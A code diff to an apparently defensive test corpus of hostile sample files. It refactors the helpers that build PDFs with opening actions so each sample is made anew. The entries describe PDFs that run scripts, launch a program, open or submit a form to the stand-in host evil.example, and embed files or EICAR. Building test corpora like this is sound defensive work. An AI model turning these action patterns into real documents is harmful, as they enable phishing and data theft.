@@ -72,17 +72,19 @@ def script() -> Dictionary:
 
 
 def opens_with(action):
+    """`action` makes it anew each time: what belongs to one PDF cannot be put into another."""
+
     def change(made):
-        made.Root.OpenAction = made.make_indirect(action)
+        made.Root.OpenAction = made.make_indirect(action())
 
     return lambda: pdf(change)
 
 
-def marked_with(**entries):
+def marked_with(entries):
     """A page with one mark upon it."""
 
     def change(made):
-        made.pages[0].Annots = Array([Dictionary(Rect=[0, 0, 9, 9], **entries)])
+        made.pages[0].Annots = Array([Dictionary(Rect=[0, 0, 9, 9], **entries())])
 
     return lambda: pdf(change)
 
@@ -237,19 +239,19 @@ CORPUS = {
     "half a jpeg": ("x.jpg", lambda: image(size=(900, 900))[:4_000]),
     "half a gif": ("x.gif", lambda: image("GIF", (400, 400))[:30]),
     # PDFs that do something.
-    "pdf with a script at opening": ("x.pdf", opens_with(script())),
+    "pdf with a script at opening": ("x.pdf", opens_with(script)),
     "pdf with a chain of actions": ("x.pdf", lambda: pdf(chained)),
-    "pdf that starts a program": ("x.pdf", opens_with(Dictionary(S=Name.Launch, F=String("MZ evil")))),
+    "pdf that starts a program": ("x.pdf", opens_with(lambda: Dictionary(S=Name.Launch, F=String("MZ evil")))),
     "pdf that opens an address": (
-        "x.pdf", opens_with(Dictionary(S=Name.URI, URI=String("http://evil.example/"))),
+        "x.pdf", opens_with(lambda: Dictionary(S=Name.URI, URI=String("http://evil.example/"))),
     ),
-    "pdf that sends a form": ("x.pdf", opens_with(Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")))),
-    "pdf that opens another": ("x.pdf", opens_with(Dictionary(S=Name.GoToR, F=String("evil.example"), D=[0]))),
-    "pdf with a link to a script": ("x.pdf", marked_with(Subtype=Name.Link, A=script())),
+    "pdf that sends a form": ("x.pdf", opens_with(lambda: Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")))),
+    "pdf that opens another": ("x.pdf", opens_with(lambda: Dictionary(S=Name.GoToR, F=String("evil.example"), D=[0]))),
+    "pdf with a link to a script": ("x.pdf", marked_with(lambda: {"Subtype": Name.Link, "A": script()})),
     "pdf with a file within": ("x.pdf", carries(b"MZ evil")),
     "pdf with eicar within": ("x.pdf", carries(EICAR)),
     "pdf with a film": (
-        "x.pdf", marked_with(Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=String("MZ evil"))),
+        "x.pdf", marked_with(lambda: {"Subtype": Name.RichMedia, "RichMediaContent": Dictionary(Assets=String("MZ evil"))}),
     ),
     "pdf with an xfa form": (
         "x.pdf", with_root("/AcroForm", lambda made: Dictionary(Fields=[], XFA=made.make_stream(SCRIPT))),
